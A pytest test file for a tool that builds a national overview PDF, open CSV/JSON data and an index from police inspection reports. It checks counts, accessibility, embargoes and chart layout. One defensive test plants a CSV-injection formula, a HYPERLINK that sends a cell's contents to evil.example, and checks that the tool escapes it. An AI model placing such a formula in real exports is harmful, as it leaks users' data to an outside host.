"""`ncpi national`: the overview, the open data (checked with the csvw library against its CSV on
the Web metadata) and the index, over the test matrix and over 43 synthetic forces."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import json
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from ncpi.check.rules import REVISIT_AIM_DAYS
from ncpi.model import AREAS, JUDGMENT_GRADES, PROGRESS_STATUSES, TIMESCALES, TOPICS
from ncpi.registry import forces

from support import FIXTURES, MATRIX, REPO, edit, invoke, make_project
from support.pdftools import (
    A4_HEIGHT,
    A4_WIDTH,
    BOTTOM_MARGIN,
    bar_labels,
    drawn_boxes,
    flowing_text,
    link_addresses,
    page_texts,
    watermarks_drawn,
)


def synthetic_forces(reports: Path) -> None:
    """A report for each of the 43 forces, made from Essex's with the force's names."""
    essex = (REPO / "reports" / "essex.yaml").read_text("utf-8")
    for slug, force in forces().items():
        text = essex.replace("slug: essex", f"slug: {slug}").replace("Essex Police", force.name)
        text = text.replace("Essex", force.area_name)
        (reports / f"{slug}.yaml").write_text(text, "utf-8")


def _matrix_project(tmp_path: Path):
    project = make_project(tmp_path, "shipped")
    for path in MATRIX.glob("*.yaml"):
        shutil.copy(path, project.reports_dir / path.name)
    shutil.copy(FIXTURES / "valid" / "reports" / "kent.yaml", project.reports_dir / "kent.yaml")
    return project


@pytest.fixture(scope="module")
def matrix_national(tmp_path_factory):
    project = _matrix_project(tmp_path_factory.mktemp("national"))
    result = invoke(project, "national")
    assert result.exit_code == 0, result.output
    return project, result


def _reports(project) -> dict[str, dict]:
    return {
        p.stem: yaml.safe_load(p.read_text("utf-8"))
        for p in sorted(project.reports_dir.glob("*.yaml"))
        if not p.name.startswith("_") and "." not in p.stem
    }


@pytest.mark.pdf
@pytest.mark.process
def test_the_overview_counts_what_the_reports_say(matrix_national):
    project, result = matrix_national
    reports = _reports(project)
    assert f"{len(reports)} report(s) included, 0 left out" in result.output
    html = (project.build_dir / "national" / "national-overview.html").read_text("utf-8")
    text = re.sub(
        r"\s+", " ", flowing_text(project.build_dir / "national" / "national-overview.pdf")
    )
    # Follow-ups are counted as such; an initial inspection's own report apart (see below).
    follow_ups = {s: r for s, r in reports.items() if r["inspection"].get("kind") != "inspection"}
    assert len(follow_ups) < len(reports)
    total = sum(len(r["inspection"]["recommendations"]) for r in follow_ups.values())
    assert f"the original inspections made {total} recommendations" in text
    for key, label in AREAS.items():
        count = sum(
            rec["area"] == key
            for r in follow_ups.values()
            for rec in r["inspection"]["recommendations"]
        )
        assert f'<tr><th scope="row">{label}</th><td>{count}</td>' in html, label
    # The revisit table: longest delay first, each against the six-month aim.
    rows = re.findall(
        r'<tr><th scope="row">([^<]+)</th><td>[^<]+</td><td>[^<]+</td><td>(\d+)</td>'
        r"<td>[\d.]+</td><td>(Yes|No)</td></tr>",
        html,
    )
    assert len(rows) == len(follow_ups)
    days = [int(d) for _, d, _ in rows]
    assert days == sorted(days, reverse=True)
    assert all(
        (d <= REVISIT_AIM_DAYS) == (ok == "Yes")
        for _, d, ok in [(n, int(d), o) for n, d, o in rows]
    )
    # Case audits: the two grading scales are never added together.
    assert "graded on the scale of four grades (2014–15)" in text
    assert "graded on the scale of three grades (from 2016)" in text
    # The annex links each force's report at its public address, never a file of this machine.
    annex = html[html.index('id="annex-a-heading"') : html.index("</main>")]
    links = re.findall(r'<a href="([^"]+)">', annex)
    assert len(links) == len(follow_ups)
    assert all(link.startswith("https://www.justiceinspectorates.gov.uk/") for link in links)
    # One publisher, under its names of the time: the matrix spans HMIC, HMICFRS and "His
    # Majesty's" (#26: two names read as two publishers).
    assert (
        "by His Majesty’s Inspectorate of Constabulary and Fire & Rescue Services (named HM "
        "Inspectorate of Constabulary until 19 July 2017 and Her Majesty’s Inspectorate of "
        "Constabulary and Fire & Rescue Services until 8 September 2022)." in text
    )
    # Annex A counts progress in words to nine, as the house writes counts: "two met".
    cells = re.findall(r"<td>((?:[^<]*?\b(?:met|progress|started))+)</td></tr>", annex)
    assert len(cells) == len(follow_ups)
    assert not any(re.search(r"\d", cell) for cell in cells), cells
    # The revisit chart marks the six-month aim, and says so to a reader who cannot see it.
    revisit = html[html.index('id="revisit-caption"') :]
    figure = revisit[revisit.index("<figure") : revisit.index("</figure>")]
    assert "with a dashed line at six months" in figure
    svg = base64.b64decode(re.search(r'src="data:image/svg\+xml;base64,([^"]+)"', figure)[1])
    assert b'stroke-dasharray="6 4"' in svg and b">six months</text>" in svg


@pytest.mark.pdf
@pytest.mark.process
def test_initial_inspections_are_counted_apart_by_programme(matrix_national):
    from csvw import Table

    project, _ = matrix_national
    reports = _reports(project)
    initial = {s: r for s, r in reports.items() if r["inspection"].get("kind") == "inspection"}
    inspections = {s: r for s, r in initial.items() if r["inspection"]["programme"] == "2024"}
    child_journey = {s: r for s, r in initial.items() if r["inspection"]["programme"] == "2014"}
    assert inspections and child_journey
    html = (project.build_dir / "national" / "national-overview.html").read_text("utf-8")
    text = re.sub(
        r"\s+", " ", flowing_text(project.build_dir / "national" / "national-overview.pdf")
    )
    assert "Inspections of the 2024 programme" in text
    section = html[html.index('id="inspections-2024-heading"') : html.index('id="annex-a-heading"')]
    # Judgments by topic and grade: each cell the number of forces given that grade.
    for topic, title in TOPICS.items():
        counts = [
            sum(
                j["topic"] == topic and j["grade"] == grade
                for r in inspections.values()
                for j in r["inspection"]["judgments"]
            )
            for grade in JUDGMENT_GRADES
        ]
        cells = "".join(f"<td>{count}</td>" for count in counts)
        assert f'<tr><th scope="row">{title}</th>{cells}</tr>' in section, title
    # Each force's grade on each topic, in a row of its own.
    for slug, report in inspections.items():
        grades = {
            j["topic"]: JUDGMENT_GRADES[j["grade"]] for j in report["inspection"]["judgments"]
        }
        name = forces()[slug].name
        cells = "".join(f"<td>{grades[topic]}</td>" for topic in TOPICS if topic in grades)
        assert f'<tr><th scope="row">{name}</th>{cells}</tr>' in section, name
    # Their case audits are added up apart from the follow-ups', within a grading scale.
    cases = sum(r["case_audit"]["cases"] for r in inspections.values() if "case_audit" in r)
    assert cases and f"scale of three grades (from 2016): {cases} case files from" in section
    causes = sum(len(r["inspection"]["causes_of_concern"]) for r in inspections.values())
    improvements = sum(len(r["inspection"]["areas_for_improvement"]) for r in inspections.values())
    words = {1: "one", 2: "two", 3: "three"}
    assert f"found {words[causes]} cause" in text
    assert f"and {words[improvements]} area" in text
    # Its recommendations are in the open data, not yet followed up; its judgments, causes of
    # concern and areas for improvement have tables of their own, each described by CSVW.
    data = project.build_dir / "data"
    rows = list(csv.DictReader((data / "recommendations.csv").open(encoding="utf-8")))
    for slug, report in inspections.items():
        mine = [row for row in rows if row["force_slug"] == slug]
        assert len(mine) == len(report["inspection"]["recommendations"])
        assert all(row["progress"] == "" and row["follow_up_start"] == "" for row in mine)
    for name, expected in (
        ("judgments", sum(len(r["inspection"]["judgments"]) for r in inspections.values())),
        ("causes-of-concern", causes),
        ("areas-for-improvement", improvements),
    ):
        table = list(Table.from_file(data / f"{name}.csv-metadata.json").iterdicts(strict=True))
        assert len(table) == expected, name
    judged = list(csv.DictReader((data / "judgments.csv").open(encoding="utf-8")))
    assert {row["grade"] for row in judged} <= set(JUDGMENT_GRADES)
    # The 2014 programme made recommendations only: its section counts them and its case
    # files, and says nothing of causes of concern its method never looked for.
    older = html[
        html.index('id="inspections-2014-heading"') : html.index('id="inspections-2024-heading"')
    ]
    made = sum(len(r["inspection"]["recommendations"]) for r in child_journey.values())
    spelt = {2: "two", 3: "three", 4: "four", 5: "five", 6: "six"}
    assert f"It made {spelt[made]} recommendations.</p>" in older
    assert "cause" not in older.lower() and "Areas for improvement</th>" not in older
    for slug in child_journey:
        assert all(row["force_slug"] != slug for row in judged)


def test_the_overview_pdf_is_tagged_and_passes_pdf_ua_1(matrix_national):
    import page
    import pikepdf

    project, _ = matrix_national
    pdf = project.build_dir / "national" / "national-overview.pdf"
    report = page.validate_pdf(str(pdf), profile="ua1")
    assert [f"{f.rule_id}: {f.message}" for f in report.failures] == []
    with pikepdf.open(pdf) as opened:
        assert str(opened.Root.Lang) == "en-GB" and "/StructTreeRoot" in opened.Root


def test_the_csv_files_are_rfc_4180_and_match_their_csvw_metadata(matrix_national):
    from csvw import CSVW, Table

    project, _ = matrix_national
    data = project.build_dir / "data"
    reports = _reports(project)
    for name, expected in (
        (
            "recommendations.csv",
            sum(len(r["inspection"]["recommendations"]) for r in reports.values()),
        ),
        ("forces.csv", len(reports)),
        *(
            (f"{name}.csv", sum(len(r["inspection"].get(key, [])) for r in reports.values()))
            for name, key in (
                ("judgments", "judgments"),
                ("causes-of-concern", "causes_of_concern"),
                ("areas-for-improvement", "areas_for_improvement"),
            )
        ),
    ):
        raw = (data / name).read_bytes()
        assert not raw.startswith(b"\xef\xbb\xbf")  # UTF-8 without a BOM
        assert raw.count(b"\r\n") == raw.count(b"\n") == expected + 1  # CRLF, header + rows
        metadata = data / f"{name}-metadata.json"
        assert CSVW(str(metadata)).is_valid, name
        table = Table.from_file(metadata)
        rows = list(table.iterdicts(strict=True))  # every value against its datatype
        assert len(rows) == expected
        header = next(csv.reader(raw.decode("utf-8").splitlines()))
        assert header == [column.name for column in table.tableSchema.columns]
        key = table.tableSchema.primaryKey
        assert len({tuple(row[k] for k in key) for row in rows}) == len(rows)
    recommendations = list(Table.from_file(data / "recommendations.csv-metadata.json").iterdicts())
    assert {(r["force_slug"], r["recommendation_id"]) for r in recommendations} == {
        (slug, rec["id"])
        for slug, r in reports.items()
        for rec in r["inspection"]["recommendations"]
    }
    # An area as a code and as its title; progress never called "status", which forces.csv
    # uses for draft or final; the publisher is the inspectorate, not the tool (#26).
    titles = {**TOPICS, **AREAS}  # the journey's titles where the two programmes share a code
    assert {r["area"] for r in recommendations} <= set(titles)
    assert all(
        r["area_title"] in (AREAS.get(r["area"]), TOPICS.get(r["area"])) for r in recommendations
    )
    assert {r["progress"] for r in recommendations} <= {*PROGRESS_STATUSES, None}
    forces_table = list(Table.from_file(data / "forces.csv-metadata.json").iterdicts())
    assert {f["report_status"] for f in forces_table} <= {"draft", "final"}
    for name in ("recommendations.csv", "forces.csv", "judgments.csv"):
        metadata = json.loads((data / f"{name}-metadata.json").read_text("utf-8"))
        assert metadata["dc:publisher"] == (
            "His Majesty's Inspectorate of Constabulary and Fire & Rescue Services"
        )
    as_json = json.loads((data / "recommendations.json").read_text("utf-8"))
    assert [(r["force_slug"], r["recommendation_id"], r["text"]) for r in as_json] == [
        (r["force_slug"], r["recommendation_id"], r["text"]) for r in recommendations
    ]


def test_a_broken_csv_fails_its_metadata(matrix_national, tmp_path):
    """The check above can fail: a date that is not a date, and a repeated primary key."""
    from csvw import Table

    project, _ = matrix_national
    for name in ("recommendations.csv", "recommendations.csv-metadata.json"):
        shutil.copy(project.build_dir / "data" / name, tmp_path / name)
    csv_file = tmp_path / "recommendations.csv"
    lines = csv_file.read_bytes().split(b"\r\n")
    lines[1] = lines[1].replace(b"2019-03-06", b"6 March 2019")
    csv_file.write_bytes(b"\r\n".join(lines))
    with pytest.raises(ValueError):
        list(Table.from_file(tmp_path / "recommendations.csv-metadata.json").iterdicts(strict=True))


def test_the_index_links_every_document_with_its_state_and_passes_axe(matrix_national, browser):
    from test_html_accessibility import _summary, axe_violations

    project, _ = matrix_national
    index = project.build_dir / "index.html"
    html = index.read_text("utf-8")
    for slug in _reports(project):
        # Nothing of the forces' own is built here: named, never linked.
        assert f'href="{slug}/' not in html
    built = html.count("Report</span>: not built")
    assert html.count("Report<span") == 0 and built == len(_reports(project))
    assert 'href="national/national-overview.pdf"' in html
    assert 'href="data/recommendations.csv-metadata.json"' in html
    assert "Not built" in html
    for page in (index, project.build_dir / "national" / "national-overview.html"):
        violations = axe_violations(browser, page)
        assert violations == [], _summary(violations)


@pytest.mark.process
@pytest.mark.usefixtures("stand_in_pdfs")
def test_national_is_incremental(tmp_path):
    project = _matrix_project(tmp_path)
    assert invoke(project, "national").exit_code == 0
    outputs = [p for p in project.build_dir.rglob("*") if p.is_file()]
    stamps = {p: p.stat().st_mtime_ns for p in outputs}
    again = invoke(project, "national")
    assert "National overview and data up to date" in again.output
    assert {p: p.stat().st_mtime_ns for p in outputs} == stamps  # nothing rewritten
    # A force built: the index says so; the overview and data are not remade.
    assert invoke(project, "build", "cumbria").exit_code == 0
    assert invoke(project, "press-release", "cumbria").exit_code == 0
    rebuilt = invoke(project, "national")
    assert "up to date" in rebuilt.output and "wrote build/index.html" in rebuilt.output
    overview = project.build_dir / "national" / "national-overview.pdf"
    assert overview.stat().st_mtime_ns == stamps[overview]
    index = (project.build_dir / "index.html").read_text("utf-8")
    assert re.search(r"Cumbria Constabulary</th>.*?<td class=\"state\">Built</td>", index)
    # Its documents are linked now that they exist; the others' still are not.
    assert 'href="cumbria/cumbria-report.html"' in index
    assert 'href="cumbria/cumbria-press-release.html"' in index
    assert 'href="norfolk/' not in index
    # One force's report changed: the overview and the data are remade, no force's documents.
    cumbria = project.report_path("cumbria")
    cumbria.write_text(cumbria.read_text("utf-8").replace("status: met", "status: in progress", 1))
    before = (project.build_dir / "cumbria" / "cumbria-report.pdf").stat().st_mtime_ns
    changed = invoke(project, "national")
    assert "National overview and data built" in changed.output
    assert (project.build_dir / "cumbria" / "cumbria-report.pdf").stat().st_mtime_ns == before
    rows = (project.build_dir / "data" / "recommendations.csv").read_text("utf-8")
    assert "cumbria,Cumbria Constabulary,R1,police-detention,Police detention,immediately," in rows
    assert ",in progress,2018-09-12" in rows


@pytest.mark.pdf
def test_an_invalid_report_is_named_and_left_out(tmp_path):
    project = _matrix_project(tmp_path)
    # Reports of 2022 and 2025 are not part of the moment these tests take as now (September 2017).
    for slug in ("nottinghamshire", "south-wales", "west-mercia"):
        project.report_path(slug).unlink()
        project.welsh_path(slug).unlink(missing_ok=True)
    norfolk = project.report_path("norfolk")
    norfolk.write_text(norfolk.read_text("utf-8").replace("kind: re-inspection", "kind: revisit"))
    result = invoke(project, "national")
    assert result.exit_code == 1
    assert "reports/norfolk.yaml:" in result.stderr
    assert "left out of the national overview: norfolk (its report has errors)" in result.stderr
    assert "1 left out" in result.output
    html = (project.build_dir / "national" / "national-overview.html").read_text("utf-8")
    assert "Norfolk Constabulary" not in html
    assert "norfolk," not in (project.build_dir / "data" / "forces.csv").read_text("utf-8")
    # The public index lists published reports only: an invalid one is not there.
    index = (project.build_dir / "index.html").read_text("utf-8")
    assert "Norfolk Constabulary" not in index


@pytest.mark.pdf
@pytest.mark.process
def test_national_over_43_synthetic_forces(tmp_path):
    project = make_project(tmp_path)
    synthetic_forces(project.reports_dir)
    result = invoke(project, "national")
    assert result.exit_code == 0, result.output
    assert "43 report(s) included, 0 left out" in result.output
    rows = list(csv.DictReader((project.build_dir / "data" / "forces.csv").open(encoding="utf-8")))
    assert [row["force_slug"] for row in rows] == list(forces())
    text = re.sub(
        r"\s+", " ", flowing_text(project.build_dir / "national" / "national-overview.pdf")
    )
    assert "follow-up reports of 43 forces" in text
    assert "the original inspections made 215 recommendations" in text
    assert "No force was revisited within six months." in text


@pytest.mark.pdf
def test_clean_removes_what_national_wrote_and_nothing_else(tmp_path):
    project = _matrix_project(tmp_path)
    assert invoke(project, "national").exit_code == 0
    mine = project.build_dir / "data" / "my-notes.txt"
    mine.write_text("not ncpi's")
    assert invoke(project, "clean").exit_code == 0
    left = sorted(p.relative_to(project.build_dir).as_posix() for p in project.build_dir.rglob("*"))
    assert left == [".made-by-ncpi", "data", "data/my-notes.txt"]  # build/ stays: not empty


# Publication state: nothing unpublished leaves through the national documents.

#: 20 September 2017, 00:00:30 in London (summer time): Derbyshire's day, before its embargo.
BEFORE_DERBYSHIRE_EMBARGO = "1505862030"
UNPUBLISHED = {"norfolk": "Norfolk", "cumbria": "Cumbria", "derbyshire": "Derbyshire"}


def _project_with_unpublished(tmp_path: Path):
    """The matrix with a draft (Norfolk), a report published later (Cumbria, 2019) and one
    under embargo at the moment the tests count as now (Derbyshire, 00:01 on its day)."""
    project = _matrix_project(tmp_path)
    # Reports of 2022 and 2025 are not part of the moment these tests take as now (September 2017).
    for slug in ("nottinghamshire", "south-wales", "west-mercia"):
        project.report_path(slug).unlink()
        project.welsh_path(slug).unlink(missing_ok=True)
    norfolk = project.report_path("norfolk")
    norfolk.write_text(norfolk.read_text("utf-8").replace("status: final", "status: draft"))
    derbyshire = project.report_path("derbyshire")
    text = derbyshire.read_text("utf-8")
    assert "\npress_release:\n" in text
    text = text.replace("\npress_release:\n", "\npress_release:\n  embargo: 2017-09-20 00:01\n")
    derbyshire.write_text(text)
    return project


def _national(project, *args: str):
    result = invoke(
        project, "national", *args, env={"SOURCE_DATE_EPOCH": BEFORE_DERBYSHIRE_EMBARGO}
    )
    assert result.exit_code == 0, result.output + result.stderr
    build = project.build_dir
    text = re.sub(r"\s+", " ", flowing_text(build / "national" / "national-overview.pdf"))
    return {
        "result": result,
        "text": text,
        "pages": page_texts(build / "national" / "national-overview.pdf", "-raw"),
        "pdf": build / "national" / "national-overview.pdf",
        "html": (build / "national" / "national-overview.html").read_text("utf-8"),
        "index": (build / "index.html").read_text("utf-8"),
        "recommendations": (build / "data" / "recommendations.csv").read_text("utf-8"),
        "forces": (build / "data" / "forces.csv").read_text("utf-8"),
        "json": json.loads((build / "data" / "recommendations.json").read_text("utf-8")),
    }


@pytest.mark.pdf
@pytest.mark.process
def test_unpublished_reports_never_reach_the_national_documents(tmp_path):
    project = _project_with_unpublished(tmp_path)
    made = _national(project)
    assert "7 report(s) included, 0 left out, 3 not yet published" in made["result"].output
    for slug, reason in (
        ("norfolk", "a draft"),
        ("cumbria", "to be published on 2019-03-06"),
        ("derbyshire", "under embargo until 2017-09-20 00:01 (UK time)"),
    ):
        assert f"not counted: {slug} is not yet published ({reason})" in made["result"].stderr
    for slug, name in UNPUBLISHED.items():
        for document in ("text", "html", "index", "recommendations", "forces"):
            assert name not in made[document], (slug, document)
            assert f"{slug}" not in made[document].lower(), (slug, document)
        assert all(row["force_slug"] != slug for row in made["json"])
    # The pages say how many were left out, and the counts are of the published five only.
    assert "Three reports are not yet published and are not counted." in made["text"]
    assert "follow-up reports of six forces" in made["text"]
    assert "Not for publication" not in made["text"]
    assert "are not yet published and are not listed" in made["index"]
    assert {row["published"] for row in made["json"]} == {True}


@pytest.mark.pdf
@pytest.mark.process
def test_as_of_after_the_dates_counts_them_and_changes_nothing_else(tmp_path):
    project = _project_with_unpublished(tmp_path)
    before = _national(project)
    after = _national(project, "--as-of", "2019-03-06")  # Cumbria's day: all but the draft
    assert "9 report(s) included, 0 left out, 1 not yet published" in after["result"].output
    assert "Norfolk" not in after["text"] and "Not for publication" not in after["text"]
    for name in ("recommendations", "forces"):
        old = before[name].splitlines()
        new = after[name].splitlines()
        assert set(old) <= set(new)  # every row as it was, byte for byte
        added = {line.split(",")[0] for line in set(new) - set(old)}
        assert added == {"cumbria", "derbyshire"}
    # Just before Derbyshire's embargo in UK summer time (23:00:30 UTC the day before).
    embargoed = _national(project, "--as-of", "2017-09-20T00:00:30+01:00")
    assert "derbyshire is not yet published (under embargo" in embargoed["result"].stderr
    lifted = _national(project, "--as-of", "2017-09-20T00:01")
    assert "derbyshire is not yet published" not in lifted["result"].stderr


@pytest.mark.pdf
@pytest.mark.process
def test_include_unpublished_counts_them_marks_them_and_watermarks_every_page(tmp_path):
    project = _project_with_unpublished(tmp_path)
    made = _national(project, "--include-unpublished")
    output = made["result"].output
    assert "10 report(s) included, 3 of them not yet published, 0 left out (" in output
    assert len(made["pages"]) > 3
    # Said once in words, on the first page; drawn on every page, never in its text.
    assert "Not for publication" in re.sub(r"\s+", " ", made["pages"][0])
    assert sum(page.count("Not for publication") for page in made["pages"]) == 1
    assert watermarks_drawn(made["pdf"]) == [True] * len(made["pages"])
    assert "Three reports counted here are not yet published" in made["text"]
    assert "Norfolk Constabulary (not published: a draft)</th>" in made["html"]
    published = {row["force_slug"]: row["published"] for row in made["json"]}
    assert {slug for slug, ok in published.items() if not ok} == set(UNPUBLISHED)
    rows = list(csv.DictReader(made["forces"].splitlines()))
    assert {row["force_slug"] for row in rows if row["published"] == "false"} == set(UNPUBLISHED)
    assert "Not published: a draft" in made["index"]
    assert "Not for publication" in made["index"]
    # Unpublished: no public address yet, so the annex links it nowhere.
    annex = made["html"][made["html"].index('id="annex-a-heading"') :]
    assert re.search(r"<th scope=\"row\">Norfolk Constabulary \(not published", annex)


def test_as_of_must_be_a_date(tmp_path):
    project = _matrix_project(tmp_path)
    result = invoke(project, "national", "--as-of", "next week")
    assert result.exit_code == 2
    assert "'next week' is not a date or a date and time" in result.stderr


# Charts that fit: every bar within its page, every force drawn is a force of the table.


def _assert_charts_fit(pdf: Path, force_names: list[str]) -> None:
    pages = drawn_boxes(pdf)
    labels = []
    for number, page in enumerate(pages, start=1):
        for drawing in page["drawings"]:
            x0, y0, x1, y1 = drawing["box"]
            assert y0 >= BOTTOM_MARGIN - 0.5, (number, drawing)  # not over the footer
            assert x0 >= 0 and x1 <= A4_WIDTH and y1 <= A4_HEIGHT, (number, drawing)
        labels += bar_labels(page)
    drawn_forces = [label for label in labels if label not in _CATEGORY_LABELS]
    assert sorted(drawn_forces) == sorted(force_names)  # each force once, and only forces


_CATEGORY_LABELS = {
    *AREAS.values(),
    *(label for label in PROGRESS_STATUSES.values()),
    *(t[:1].upper() + t[1:] for t in TIMESCALES),
}


@pytest.mark.pdf
@pytest.mark.process
def test_the_charts_of_43_forces_stay_within_their_pages(tmp_path):
    project = make_project(tmp_path)
    synthetic_forces(project.reports_dir)
    assert invoke(project, "national").exit_code == 0
    pdf = project.build_dir / "national" / "national-overview.pdf"
    _assert_charts_fit(pdf, [force.name for force in forces().values()])
    text = flowing_text(pdf)
    assert "by force (part 1 of 3)" in text and "by force (part 3 of 3)" in text


@pytest.mark.pdf
def test_the_charts_of_400_forces_stay_within_their_pages(tmp_path):
    """More reports than the registry has forces: made-up forces, as benchmarks/national.py."""

    from ncpi.build.pipeline import make_pdf
    from ncpi.build.targets import BuildOptions
    from ncpi.check.validate import check_project
    from ncpi.commands.national import NATIONAL_HTML, Entry, National, national_context
    from ncpi.render.documents import render_template

    project = make_project(tmp_path)
    checked = check_project(project, ["essex"], dry_run=False)
    report, essex = checked.reports["essex"], forces()["essex"]
    entries = [
        Entry(
            f"force-{n:03d}",
            essex._replace(slug=f"force-{n:03d}", name=f"Force {n} Police"),
            report,
        )
        for n in range(400)
    ]
    national = National(entries, checked.common)
    html = render_template(NATIONAL_HTML, national_context(national, {}), project.templates_dir)
    pdf, _ = make_pdf(project, html, BuildOptions())
    path = tmp_path / "national.pdf"
    path.write_bytes(pdf)
    _assert_charts_fit(path, [entry.force.name for entry in entries])


# Links that work, and the same bytes from any folder.


def test_no_pdf_links_to_a_file_of_the_build_machine(matrix_national, matrix_build):
    built, _ = matrix_build
    project, _ = matrix_national
    pdfs = [project.build_dir / "national" / "national-overview.pdf"]
    pdfs += [path for files in built.values() for path in files.values() if path.suffix == ".pdf"]
    for pdf in pdfs:
        addresses = link_addresses(pdf)
        assert all(a.startswith(("https://", "http://", "mailto:")) for a in addresses), pdf
        assert b"file:" not in pdf.read_bytes(), pdf
    overview = link_addresses(pdfs[0])
    # A link over two lines is two annotations with one address.
    assert len({a for a in overview if "/publications/" in a}) == len(_reports(project))


@pytest.mark.pdf
def test_the_national_pdf_is_the_same_from_two_folders(tmp_path):
    first = _matrix_project(tmp_path / "one")
    second = _matrix_project(tmp_path / "elsewhere" / "two")
    for project in (first, second):
        assert invoke(project, "national").exit_code == 0
    for name in ("national/national-overview.pdf", "national/national-overview.html"):
        assert (first.build_dir / name).read_bytes() == (second.build_dir / name).read_bytes()


@pytest.mark.pdf
def test_quiet_after_the_command_as_for_build(tmp_path):
    project = _matrix_project(tmp_path)
    result = invoke(project, "national", "-q")
    assert result.exit_code == 0, result.output
    assert "wrote " not in result.output  # only the summary
    assert "National overview and data built" in result.output


@pytest.mark.pdf
def test_no_csv_cell_is_run_as_a_formula_and_the_json_is_exact(tmp_path):
    """OWASP's CSV injection: text that starts like a formula gets a ' in the CSV, not the JSON."""
    from csvw import Table

    project = _matrix_project(tmp_path)
    cumbria = project.report_path("cumbria")
    hostile = '=HYPERLINK("https://evil.example/?"&A1, "click")'
    lines = cumbria.read_text("utf-8").splitlines(keepends=True)
    first = next(i for i, line in enumerate(lines) if line.strip().startswith("text: ensure"))
    lines[first] = lines[first].split("text:")[0] + f"text: '{hostile}'\n"
    cumbria.write_text("".join(lines))
    result = invoke(project, "national")
    assert result.exit_code == 0, result.output + result.stderr
    data = project.build_dir / "data"
    rows = list(csv.DictReader((data / "recommendations.csv").read_text("utf-8").splitlines()))
    cell = next(row["text"] for row in rows if row["force_slug"] == "cumbria")
    assert cell == "'" + hostile
    assert not any(v.startswith(("=", "+", "-", "@")) for row in rows for v in row.values())
    as_json = json.loads((data / "recommendations.json").read_text("utf-8"))
    assert hostile in [row["text"] for row in as_json]
    metadata = data / "recommendations.csv-metadata.json"
    assert "CSV injection" in json.loads(metadata.read_text("utf-8"))["dc:description"]
    assert len(list(Table.from_file(metadata).iterdicts(strict=True))) == len(rows)


@pytest.mark.process
@pytest.mark.usefixtures("stand_in_pdfs")
def test_with_no_report_counted_the_overview_is_dated_by_its_moment_not_the_clock(project_from):
    project = project_from()
    edit(project.report_path("essex"), "status: final", "status: draft")
    result = invoke(project, "national", env={"SOURCE_DATE_EPOCH": "1500000000"})
    assert result.exit_code == 0, result.output
    html = (project.build_dir / "national" / "national-overview.html").read_text("utf-8")
    assert "2017-07-14" in html and dt.date.today().isoformat() not in html  # not the clock


@pytest.mark.pdf
def test_each_chart_is_on_the_page_of_its_table(matrix_national):
    # A chart too tall for the space under its table went to the next page, leaving up to
    # two-fifths of the page empty; compact bars keep it beside the numbers it draws.
    project, _ = matrix_national
    pdf = project.build_dir / "national" / "national-overview.pdf"
    pages = subprocess.run(
        ["pdftotext", "-layout", str(pdf), "-"], capture_output=True, text=True, check=True
    ).stdout.split("\f")

    # The table's caption starts its line; the figure's, under the drawing, is indented.
    def page_of(pattern: str) -> int:
        [page] = [n for n, text in enumerate(pages) if re.search(pattern, text, re.M)]
        return page

    for what in ("area", "timescale", "progress"):
        table = page_of(rf"^Recommendations by {what}")
        figure = page_of(rf"^\s+Recommendations by {what}$")
        assert figure == table, (what, table, figure)
